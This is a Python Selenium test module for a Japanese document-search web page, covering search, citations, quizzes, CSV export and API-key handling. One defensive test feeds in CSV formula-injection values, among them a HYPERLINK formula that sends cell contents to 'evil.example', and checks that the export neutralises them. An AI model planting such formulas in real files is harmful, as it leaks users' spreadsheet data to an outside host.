"""The web page in a real headless Chromium against a real `indexer serve` on loopback.

Why a real browser and server: the page's promises (the key prompt on 401, safe snippet rendering, citations
that jump, a quiz that scores, a CSV the server makes and the page downloads) live in JavaScript talking to the
HTTP API, and only a browser runs both. Debian's `chromium` is driven through its own `chromedriver` (same
version, same package source) with Selenium; nothing downloads a browser. Without them these tests fail with a
message saying how to install them (`make test` does so when it runs as root).

The server runs with an API key, as a shared deployment would; the tiny random models make every ranking
but the keyword leg arbitrary, so assertions are about the flow and the structure, not about relevance. The
answer generators point at a missing directory, so /answer falls back to the (deterministic) extractive
answer; quizzes use a tiny random seq2seq model whose questions are noise, which is all the UI flow needs.

On failure each test leaves a screenshot, the page's HTML, the browser console and the server log in
test-artifacts/web/ (git-ignored).
"""

from __future__ import annotations

import csv
import functools
import io
import os
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest
from generation_corpus import write_documents
from selenium import webdriver
from selenium.common.exceptions import StaleElementReferenceException, TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select, WebDriverWait
from serve_process import Server, running_server
from tiny_index import build

from search.generation.export import read_table
from search.models.encoder import Encoder

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
pytestmark = pytest.mark.browser


def require_chromium() -> None:
    """A browser test without a browser fails (never skips), saying how to get one; checked when a test needs
    the browser, so that `-m "not browser"` still collects this module on a machine without Chromium."""
    if not (CHROMIUM.exists() and CHROMEDRIVER.exists()):
        pytest.fail(
            "Debian's chromium and chromium-driver are needed for the browser tests: `make test` installs them "
            "when run as root, otherwise run `sudo apt-get install chromium chromium-driver`",
            pytrace=False,
        )


KEY = "web-test-key"
ARTIFACTS = Path(__file__).resolve().parent.parent / "test-artifacts" / "web"
UI_TIMEOUT_S = 30  # a search, a document, an extractive answer
QUIZ_TIMEOUT_S = 180  # the first quiz loads the question model and the morphological analyser
LAPTOP = (1280, 900)
PHONE = (390, 844)
MARKUP_DOC = "IT/html-note.md"
MARKUP_TEXT = "<b>太字</b>のタグと&amp;の書き方を説明します。休暇の申請とは関係ありません。"
QUIZ_DOC = "人事/就業規則.txt"

T = TypeVar("T")


# -- the server --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory, tiny_encoder: Encoder) -> Path:
    """Japanese documents the tiny tokenizers know, plus one Markdown note whose text looks like HTML."""
    root = tmp_path_factory.mktemp("web")
    docs = write_documents(root / "docs")
    (docs / MARKUP_DOC).write_text(f"# HTMLの書き方\n\n{MARKUP_TEXT}\n", encoding="utf-8")
    summary = build(docs, root / "index", tiny_encoder)
    assert summary.files_failed == []
    return root / "index"


@pytest.fixture(scope="module")
def server(index: Path, tiny_seq2seq_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """`indexer serve` with an API key, exactly as an operator would start it."""
    log = tmp_path_factory.mktemp("web-server") / "serve.log"
    missing = str(tmp_path_factory.mktemp("web-missing") / "no-generator")
    env = {"INDEXER_QG_MODEL": str(tiny_seq2seq_dir), "INDEXER_QA_MODEL_JA": missing, "INDEXER_QA_MODEL_EN": missing}
    with running_server(index, log, KEY, env) as running:
        yield running


# -- the browser ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("web-downloads")


@pytest.fixture(scope="module")
def driver(downloads: Path) -> Iterator[WebDriver]:
    """One headless Chromium for the module (a start costs seconds on two slow cores); each test reloads."""
    require_chromium()
    profile = tempfile.mkdtemp(prefix="docsearch-chromium-")
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    # The closed network refuses Chromium's own background connections: these flags stop it making them.
    for flag in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
        f"--user-data-dir={profile}",
        f"--window-size={LAPTOP[0]},{LAPTOP[1]}",
    ):
        options.add_argument(flag)
    options.add_experimental_option(
        "prefs", {"download.default_directory": str(downloads), "download.prompt_for_download": False}
    )
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    browser = webdriver.Chrome(service=Service(str(CHROMEDRIVER)), options=options)
    browser.set_page_load_timeout(UI_TIMEOUT_S)
    try:
        yield browser
    finally:
        browser.quit()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture()
def page(driver: WebDriver, server: Server) -> WebDriver:
    """A freshly loaded page with the API key already entered (as after the first prompt), laptop width."""
    driver.set_window_size(*LAPTOP)
    open_page(driver, server, key=KEY)
    return driver


def open_page(driver: WebDriver, server: Server, key: str | None) -> None:
    driver.get(f"{server.base}/")
    driver.execute_script(
        "sessionStorage.clear(); if (arguments[0]) sessionStorage.setItem('docsearch.apiKey', arguments[0]);", key
    )
    driver.get(f"{server.base}/")  # a fresh page: no state from the previous test
    wait(driver, lambda d: "索引:" in d.find_element(By.ID, "server-info").text, "the page did not load /health")


def save_artifacts(driver: WebDriver, server: Server | None, name: str) -> None:
    """Screenshot, HTML, browser console and server log of a failed test, for whoever has to debug it."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    try:
        driver.save_screenshot(str(ARTIFACTS / f"{name}.png"))
        (ARTIFACTS / f"{name}.html").write_text(driver.page_source, encoding="utf-8")
        console = "\n".join(f"{e['level']} {e['message']}" for e in driver.get_log("browser"))
        (ARTIFACTS / f"{name}.console.log").write_text(console, encoding="utf-8")
    except Exception as exc:  # noqa: BLE001 - the test's own failure matters more than a missing artifact
        (ARTIFACTS / f"{name}.artifact-error.txt").write_text(repr(exc), encoding="utf-8")
    if server is not None and server.log.exists():
        shutil.copyfile(server.log, ARTIFACTS / f"{name}.server.log")


def artifacts_on_failure(test: Callable[..., None]) -> Callable[..., None]:
    """Wrap a test taking `page` (or `driver`) and `server`: on any failure, save the artifacts and re-raise."""

    @functools.wraps(test)
    def wrapper(*args: Any, **kwargs: Any) -> None:
        try:
            test(*args, **kwargs)
        except BaseException:
            browser = kwargs.get("page") or kwargs.get("driver")
            if browser is not None:
                save_artifacts(browser, kwargs.get("server"), test.__name__)
            raise

    return wrapper


# -- helpers ---------------------------------------------------------------------------------------------


def wait(driver: WebDriver, condition: Callable[[WebDriver], T], message: str, timeout: float = UI_TIMEOUT_S) -> T:
    """An explicit wait: every step is bounded, and a timeout says what the page failed to show."""
    try:
        # Stale elements are expected while the page re-renders a list: look again at the next poll.
        ignored = (StaleElementReferenceException,)
        return WebDriverWait(driver, timeout, poll_frequency=0.1, ignored_exceptions=ignored).until(condition, message)
    except TimeoutException:
        error = driver.find_elements(By.CSS_SELECTOR, "#error:not([hidden]) #error-text")
        shown = f" (the page shows the error: {error[0].text})" if error else ""
        raise TimeoutException(f"{message}{shown}") from None


def by_id(driver: WebDriver, element_id: str) -> WebElement:
    return driver.find_element(By.ID, element_id)


def click(driver: WebDriver, element: WebElement) -> None:
    """Scroll to the middle of the screen first: ChromeDriver only scrolls an element that is fully out of
    view, and one partly under the sticky header would intercept the click (a user would scroll too)."""
    driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", element)
    element.click()


def hits(driver: WebDriver) -> list[WebElement]:
    return driver.find_elements(By.CSS_SELECTOR, "#search-results .hit")


def search_for(driver: WebDriver, query: str) -> list[WebElement]:
    box = by_id(driver, "search-query")
    box.clear()
    box.send_keys(query, Keys.ENTER)  # Enter submits: no mouse needed
    wait(driver, lambda d: query in by_id(d, "search-status").text and hits(d), f"no results for {query}")
    return hits(driver)


def result_paths(driver: WebDriver) -> list[str]:
    """Read in one script call, so that a list re-rendered meanwhile cannot yield a stale element."""
    script = "return [...document.querySelectorAll('#search-results .hit')].map((hit) => hit.dataset.path)"
    return list(driver.execute_script(script))


def status_after(driver: WebDriver, element_id: str, previous: str) -> str:
    """Wait until the status line changes from `previous` (a new response arrived) and return it."""
    return wait(driver, lambda d: (t := by_id(d, element_id).text) != previous and "…" not in t and t, "no new status")


def quiz_from_document(driver: WebDriver, path: str, n: int, mode: str = "auto") -> list[WebElement]:
    """Ask for n questions from one document, as a user would, and wait for them to be shown."""
    by_id(driver, "tab-quiz").click()
    driver.find_element(By.CSS_SELECTOR, "input[name=quiz-source][value=document]").click()
    Select(by_id(driver, "quiz-mode")).select_by_value(mode)
    by_id(driver, "quiz-document").send_keys(path)
    count = by_id(driver, "quiz-n")
    count.clear()
    count.send_keys(str(n), Keys.ENTER)
    return wait(
        driver, lambda d: d.find_elements(By.CSS_SELECTOR, ".quiz-question"), "no quiz questions", QUIZ_TIMEOUT_S
    )


def download_quiz_csv(driver: WebDriver, downloads: Path) -> bytes:
    """Click the CSV button and return the bytes of the file the browser saved, once it is complete."""
    for old in downloads.iterdir():
        old.unlink()
    click(driver, by_id(driver, "quiz-csv"))
    sizes: list[int] = []

    def complete(_: WebDriver) -> Path | None:
        """The one quiz file, with no download in progress (.crdownload) and the same size at two looks."""
        if list(downloads.glob("*.crdownload")):
            return None
        files = list(downloads.glob("quiz-*.csv"))
        if len(files) != 1:
            return None
        sizes.append(files[0].stat().st_size)
        return files[0] if len(sizes) > 1 and sizes[-1] == sizes[-2] > 0 else None

    return wait(driver, complete, "the CSV was not downloaded completely").read_bytes()


# -- tests -------------------------------------------------------------------------------------------------


@artifacts_on_failure
def test_search_shows_highlighted_results_and_opens_the_passage_in_context(page: WebDriver, server: Server) -> None:
    results = search_for(page, "有給休暇の申請")
    first = results[0]
    assert first.find_element(By.CSS_SELECTOR, ".hit-title").text
    assert "›" in first.find_element(By.CSS_SELECTOR, ".path").text
    assert "スコア" in first.find_element(By.CSS_SELECTOR, ".hit-score").text
    keyword_hits = [hit for hit in results if hit.find_elements(By.CSS_SELECTOR, ".snippet mark")]
    assert keyword_hits, "the keyword leg matches 有給休暇 and 申請: some snippet must mark them"
    marked = [mark.text for mark in keyword_hits[0].find_elements(By.CSS_SELECTOR, ".snippet mark")]
    # typed words, or a synonym of one (年次有給休暇 for 有給休暇), never a particle
    assert all(text and (text in "有給休暇の申請" or "有給休暇" in text) for text in marked), marked

    passage_id = keyword_hits[0].get_attribute("data-passage-id")
    keyword_hits[0].find_element(By.CSS_SELECTOR, ".hit-title").click()
    viewer = wait(page, lambda d: (v := by_id(d, "viewer")).is_displayed() and v, "the document did not open")
    current = wait(page, lambda d: d.find_element(By.CSS_SELECTOR, "#viewer-passages .current"), "no current passage")
    assert current.get_attribute("data-passage-id") == passage_id
    assert [m.text for m in current.find_elements(By.CSS_SELECTOR, "mark")] == marked, "same words marked in context"
    assert len(page.find_elements(By.CSS_SELECTOR, "#viewer-passages .doc-passage")) > 1, "neighbours are shown"
    page.switch_to.active_element.send_keys(Keys.ESCAPE)
    wait(page, lambda d: not viewer.is_displayed(), "Escape did not close the document")


@artifacts_on_failure
def test_snippets_and_passages_show_document_text_as_text(page: WebDriver, server: Server) -> None:
    """Markup in a document is shown literally, never interpreted: document text is untrusted."""
    results = search_for(page, "太字")
    note = next(hit for hit in results if hit.get_attribute("data-path") == MARKUP_DOC)
    snippet = note.find_element(By.CSS_SELECTOR, ".snippet")
    assert "<b>" in snippet.text and "&amp;" in snippet.text
    assert not snippet.find_elements(By.CSS_SELECTOR, "b"), "document markup must not become elements"
    assert [m.text for m in snippet.find_elements(By.CSS_SELECTOR, "mark")] == ["太字"]


@artifacts_on_failure
def test_filters_narrow_the_results(page: WebDriver, server: Server) -> None:
    search_for(page, "休暇")
    before = result_paths(page)
    assert any(not p.startswith("人事/") for p in before), f"the test needs results outside 人事/: {before}"

    by_id(page, "search-filters").find_element(By.TAG_NAME, "summary").click()
    folder = by_id(page, "filter-folder")
    folder.send_keys("人事/", Keys.ENTER)
    wait(
        page,
        lambda d: (p := result_paths(d)) and all(x.startswith("人事/") for x in p),
        "the folder filter did not apply",
    )
    assert by_id(page, "filter-count").text == "1"

    by_id(page, "filter-clear").click()
    page.find_element(By.CSS_SELECTOR, ".filter-format[value=md]").click()  # a change re-runs the search
    wait(page, lambda d: set(result_paths(d)) == {MARKUP_DOC}, "the format filter did not leave the one .md document")
    assert by_id(page, "filter-count").text == "1"


@artifacts_on_failure
def test_paging_moves_through_the_results(page: WebDriver, server: Server) -> None:
    by_id(page, "search-filters").find_element(By.TAG_NAME, "summary").click()
    click(page, by_id(page, "search-collapse"))  # every matching passage, not one per document
    first_page = [h.get_attribute("data-passage-id") for h in search_for(page, "休暇")]
    assert len(first_page) == 10 and by_id(page, "page-prev").get_attribute("disabled") is not None
    by_id(page, "page-next").click()
    wait(page, lambda d: "11〜" in by_id(d, "search-status").text, "the second page did not load")
    second_page = [h.get_attribute("data-passage-id") for h in hits(page)]
    assert second_page and not set(second_page) & set(first_page)
    by_id(page, "page-prev").click()
    wait(page, lambda d: "1〜10" in by_id(d, "search-status").text, "back to the first page")


@artifacts_on_failure
def test_ask_shows_an_answer_whose_citations_jump_to_the_passages(page: WebDriver, server: Server) -> None:
    by_id(page, "tab-ask").click()
    by_id(page, "ask-question").send_keys("有給休暇は何日付与されますか", Keys.ENTER)
    answer = wait(page, lambda d: d.find_element(By.CSS_SELECTOR, "#ask-result .answer"), "no answer", 60)
    assert "unanswerable" not in (answer.get_attribute("class") or "")
    assert "十日" in answer.find_element(By.CSS_SELECTOR, ".answer-text").text
    assert "抜粋" in answer.find_element(By.CSS_SELECTOR, ".answer-mode").text
    assert answer.find_element(By.CSS_SELECTOR, ".fallback").is_displayed(), "the fallback to extraction is said"
    refs = answer.find_elements(By.CSS_SELECTOR, ".cite-ref")
    citations = answer.find_elements(By.CSS_SELECTOR, ".citation")
    assert refs and len(refs) == len(citations) and refs[0].text == "[1]"

    refs[-1].click()
    target = by_id(page, f"citation-{len(refs)}")
    wait(page, lambda d: "is-active" in (target.get_attribute("class") or ""), "the citation was not highlighted")
    assert page.switch_to.active_element == target, "focus follows the jump (keyboard and screen readers)"
    evidence = target.find_element(By.CSS_SELECTOR, "blockquote mark").text
    assert evidence and evidence in target.find_element(By.CSS_SELECTOR, "blockquote").text

    target.find_element(By.CSS_SELECTOR, ".citation-title button").click()
    current = wait(page, lambda d: d.find_element(By.CSS_SELECTOR, "#viewer-passages .current mark"), "no passage")
    assert current.text == evidence, "the cited sentence is marked in its document"


@artifacts_on_failure
def test_ask_says_clearly_when_the_documents_hold_no_answer(page: WebDriver, server: Server) -> None:
    # A folder with no documents: retrieval finds nothing, so the server must refuse to answer.
    by_id(page, "search-filters").find_element(By.TAG_NAME, "summary").click()
    by_id(page, "filter-folder").send_keys("存在しないフォルダ/")
    by_id(page, "tab-ask").click()
    by_id(page, "ask-use-filters").click()
    by_id(page, "ask-question").send_keys("有給休暇は何日付与されますか", Keys.ENTER)
    answer = wait(page, lambda d: d.find_element(By.CSS_SELECTOR, "#ask-result .answer"), "no answer", 60)
    assert "unanswerable" in (answer.get_attribute("class") or "")
    assert "答えが見つかりませんでした" in answer.find_element(By.TAG_NAME, "h2").text
    assert "見つかりませんでした" in answer.find_element(By.CSS_SELECTOR, ".reason").text
    assert not answer.find_elements(By.CSS_SELECTOR, ".cite-ref")


@artifacts_on_failure
def test_quiz_renders_choices_scores_answers_and_downloads_csv(
    page: WebDriver, server: Server, downloads: Path
) -> None:
    questions = quiz_from_document(page, QUIZ_DOC, 3)
    assert 1 <= len(questions) <= 3
    for question in questions:
        assert len(question.find_elements(By.CSS_SELECTOR, "input[type=radio]")) == 4, "the answer and 3 distractors"
        assert QUIZ_DOC in question.find_element(By.CSS_SELECTOR, ".question-source").text

    # Round 1: always the first option; the page then reveals which option was right.
    for question in questions:
        click(page, question.find_element(By.CSS_SELECTOR, "input[type=radio]"))
    click(page, by_id(page, "quiz-grade"))
    score = wait(page, lambda d: by_id(d, "quiz-score").text, "no score")
    first_right = sum(
        "good" in (q.find_element(By.CSS_SELECTOR, ".feedback").get_attribute("class") or "") for q in questions
    )
    assert score.startswith(f"{len(questions)} 問中 {first_right} 問正解")
    answers = [q.find_element(By.CSS_SELECTOR, ".option.correct").text for q in questions]

    # Round 2: the revealed answers score full marks.
    click(page, by_id(page, "quiz-retry"))
    wait(page, lambda d: not by_id(d, "quiz-score").text, "the quiz did not reset")
    for question, answer in zip(page.find_elements(By.CSS_SELECTOR, ".quiz-question"), answers, strict=True):
        option = next(o for o in question.find_elements(By.CSS_SELECTOR, ".option") if o.text == answer)
        click(page, option.find_element(By.TAG_NAME, "input"))
    click(page, by_id(page, "quiz-grade"))
    wait(page, lambda d: "100%" in by_id(d, "quiz-score").text, "the right answers did not score 100%")

    data = download_quiz_csv(page, downloads)
    assert data.startswith(b"\xef\xbb\xbf"), "a byte order mark, for Excel"
    text = data.decode("utf-8")
    assert text.endswith("\r\n") and text.count("\r\n") == len(questions) + 1, "CRLF rows, as Excel writes them"
    rows = read_table(text)  # the CLI's own reader: the server writes the file with the CLI's code
    shown = [q.find_element(By.TAG_NAME, "legend").text for q in page.find_elements(By.CSS_SELECTOR, ".quiz-question")]
    labels = {"cloze": "穴埋め", "generated": "生成"}  # each question says how it was made
    assert [f"問{i + 1}. {row['question']} {labels[row['mode']]}" for i, row in enumerate(rows)] == shown
    assert [row["answer"] for row in rows] == answers and all(row["path"] == QUIZ_DOC for row in rows)
    assert list(next(csv.reader(io.StringIO(text.removeprefix("\ufeff")))))[-1] == "mode"


# Document text the API hands over as it is: a document can make a question, answer or title start with "=".
HOSTILE_QUIZ_JS = """
const realFetch = window.fetch;
window.fetch = async (path, init) => {
  const response = await realFetch(path, init);
  if (path !== "/quiz" || !response.ok) return response;
  const data = await response.json();
  for (const q of data.questions) {
    q.question = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
    q.title = "@SUM(A1:A9)";
    q.answer_type = "\\r=1+1";
    q.options = q.options.map((option) => (option === q.answer ? "-1+2" : option));
    q.answer = "-1+2";
  }
  return new Response(JSON.stringify(data), { status: response.status, headers: response.headers });
};
"""


@artifacts_on_failure
def test_quiz_csv_keeps_formulas_from_running_in_a_spreadsheet(
    page: WebDriver, server: Server, downloads: Path
) -> None:
    page.execute_script(HOSTILE_QUIZ_JS)
    question = quiz_from_document(page, QUIZ_DOC, 1, mode="cloze")[0]  # cloze: no model, always a question
    legend = question.find_element(By.TAG_NAME, "legend").text
    assert legend == '問1. =HYPERLINK("http://evil.example/?"&A1,"詳細") 穴埋め'

    text = download_quiz_csv(page, downloads).decode("utf-8-sig")
    # newline="": a bare CR ends a line, as in Excel and LibreOffice; the CR-led cell must not start a row.
    (cells,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert cells["question"] == '\'=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    assert (cells["title"], cells["answer"], cells["answer_type"]) == ("'@SUM(A1:A9)", "'-1+2", "'\r=1+1")
    assert "'-1+2" in [cells[f"option_{i}"] for i in range(1, 5)]
    row = read_table(text)[0]  # the apostrophes come off again on import
    assert (row["question"], row["title"], row["answer"], row["answer_type"]) == (
        '=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(A1:A9)", "-1+2", "\r=1+1")  # fmt: skip


@artifacts_on_failure
def test_a_wrong_api_key_shows_the_error_and_the_right_one_recovers(driver: WebDriver, server: Server) -> None:
    driver.set_window_size(*LAPTOP)
    open_page(driver, server, key=None)
    by_id(driver, "search-query").send_keys("有給休暇", Keys.ENTER)
    dialog = wait(driver, lambda d: (k := by_id(d, "key-dialog")).is_displayed() and k, "no key prompt on 401")
    assert "APIキーが必要" in by_id(driver, "key-message").text

    by_id(driver, "key-input").send_keys("not-the-key", Keys.ENTER)
    wait(driver, lambda d: "Invalid API key" in by_id(d, "key-message").text, "a wrong key was not reported")
    assert "使えません" in by_id(driver, "key-message").text and dialog.is_displayed()
    assert driver.execute_script("return sessionStorage.getItem('docsearch.apiKey')") is None, "a bad key is dropped"

    by_id(driver, "key-input").send_keys(KEY, Keys.ENTER)
    wait(driver, lambda d: hits(d), "the search did not resume with the right key")
    assert not dialog.is_displayed()
    assert driver.execute_script("return sessionStorage.getItem('docsearch.apiKey')") == KEY

    # Cancelling the prompt is an error in words, with a way to try again.
    driver.execute_script("sessionStorage.setItem('docsearch.apiKey', 'stale-key')")
    by_id(driver, "search-query").send_keys(Keys.ENTER)
    wait(driver, lambda d: dialog.is_displayed(), "no prompt for a stale key")
    by_id(driver, "key-cancel").click()
    banner = wait(driver, lambda d: (e := by_id(d, "error")).is_displayed() and e, "no error after cancelling")
    assert "APIキー" in banner.text and by_id(driver, "error-retry").is_displayed()


@artifacts_on_failure
def test_api_errors_are_shown_in_plain_words(page: WebDriver, server: Server) -> None:
    # A 422 from the real server: the field is named in Japanese, the reason kept.
    by_id(page, "tab-quiz").click()
    by_id(page, "quiz-query").send_keys("有給休暇")
    count = by_id(page, "quiz-n")
    count.clear()
    count.send_keys("0", Keys.ENTER)
    banner = wait(page, lambda d: (e := by_id(d, "error")).is_displayed() and e, "no error for n=0")
    assert "入力内容に誤りがあります" in banner.text and "問題数" in banner.text
    assert not by_id(page, "error-retry").is_displayed(), "resending an invalid request cannot help"
    by_id(page, "error-close").click()

    # A 503 with Retry-After (a busy server), answered by a stub: a real one takes a saturated server.
    page.execute_script(
        """
        const realFetch = window.fetch;
        window.fetch = (url, options) => {
          window.fetch = realFetch;  // once only: the retry reaches the real server
          return Promise.resolve(new Response(JSON.stringify({detail: "The search service is busy: try again in 2 s"}),
            {status: 503, headers: {"Retry-After": "2", "Content-Type": "application/json"}}));
        };
        """
    )
    by_id(page, "tab-search").click()
    by_id(page, "search-query").send_keys("有給休暇", Keys.ENTER)
    banner = wait(page, lambda d: (e := by_id(d, "error")).is_displayed() and e, "no error for a 503")
    assert "混雑" in banner.text and "2秒" in banner.text and "busy" in banner.text
    retry = by_id(page, "error-retry")
    assert retry.get_attribute("disabled") is not None, "no retry before Retry-After"
    wait(page, lambda d: retry.is_enabled(), "retry never became possible", 10)
    retry.click()
    wait(page, lambda d: hits(d), "the retry did not search")
    assert not by_id(page, "error").is_displayed()


@artifacts_on_failure
def test_tabs_work_from_the_keyboard(page: WebDriver, server: Server) -> None:
    by_id(page, "tab-search").send_keys(Keys.ARROW_RIGHT)
    assert page.switch_to.active_element == by_id(page, "tab-ask")
    assert by_id(page, "tab-ask").get_attribute("aria-selected") == "true" and by_id(page, "panel-ask").is_displayed()
    assert not by_id(page, "panel-search").is_displayed()
    page.switch_to.active_element.send_keys(Keys.END)
    assert by_id(page, "tab-quiz").get_attribute("aria-selected") == "true"
    page.switch_to.active_element.send_keys(Keys.ARROW_RIGHT)
    assert by_id(page, "tab-search").get_attribute("aria-selected") == "true", "arrows wrap around"
    assert by_id(page, "tab-ask").get_attribute("tabindex") == "-1", "one tab stop for the tab list"


@artifacts_on_failure
def test_results_fit_a_phone_width(page: WebDriver, server: Server) -> None:
    search_for(page, "有給休暇の申請")
    if os.environ.get("DOCSEARCH_WEB_SCREENSHOTS") == "1":  # for a person to look at, on request
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.save_screenshot(str(ARTIFACTS / "laptop-search.png"))
    # A desktop window cannot be made phone-narrow (Chromium keeps it at least 500 px): emulate the screen.
    width, height = PHONE
    page.execute_cdp_cmd(
        "Emulation.setDeviceMetricsOverride", {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": True}
    )
    try:
        wait(page, lambda d: d.execute_script("return window.innerWidth") == width, "the phone width did not apply")
        search_for(page, "有給休暇の申請")
        overflow = page.execute_script("return document.documentElement.scrollWidth - window.innerWidth")
        assert overflow <= 0, f"the page scrolls sideways by {overflow}px at phone width"
        assert by_id(page, "search-query").rect["width"] > 0.8 * width, "the query box spans the screen"
        tabs = [by_id(page, f"tab-{name}").rect for name in ("search", "ask", "quiz")]
        assert len({round(t["y"]) for t in tabs}) == 1, "the tabs stay on one row"
        if os.environ.get("DOCSEARCH_WEB_SCREENSHOTS") == "1":
            page.save_screenshot(str(ARTIFACTS / "phone-search.png"))
    finally:
        page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


@artifacts_on_failure
def test_results_show_one_hit_per_document_and_the_rest_on_demand(page: WebDriver, server: Server) -> None:
    search_for(page, "休暇")
    paths = result_paths(page)
    assert len(paths) == len(set(paths)), "the page collapses hits by document"
    assert "ハイブリッド検索" in by_id(page, "search-status").text  # the mode that ranked them is named
    more = page.find_elements(By.CSS_SELECTOR, "#search-results .more-in-document")
    assert more, "some document has further matching passages"
    path = more[0].find_element(By.XPATH, "ancestor::li").get_attribute("data-path")
    previous = by_id(page, "search-status").text
    click(page, more[0])
    assert f"{path} の中" in status_after(page, "search-status", previous)
    inside = result_paths(page)
    assert len(inside) > 1 and set(inside) == {path}
    previous = by_id(page, "search-status").text
    click(page, by_id(page, "search-within-clear"))
    status_after(page, "search-status", previous)
    assert len(set(result_paths(page))) == len(result_paths(page)) > 1
